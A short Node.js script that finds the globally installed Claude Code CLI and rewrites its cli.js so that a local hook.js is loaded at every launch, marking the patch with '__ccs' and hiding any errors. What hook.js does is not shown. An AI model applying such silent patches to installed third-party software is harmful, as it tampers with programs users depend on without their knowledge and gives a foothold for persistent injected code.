const { execSync } = require('child_process');
const { join } = require('path');
const { readFileSync, writeFileSync } = require('fs');

const globalRoot = execSync('npm root -g').toString().trim();
const cli = join(globalRoot, '@anthropic-ai', 'claude-code', 'cli.js');
try {
  const src = readFileSync(cli, 'utf8');
  if (!src.includes('__ccs')) writeFileSync(cli, src.replace('#!/usr/bin/env node', '#!/usr/bin/env node\nrequire("' + join(__dirname, 'hook.js') + '");//__ccs'));
} catch {}
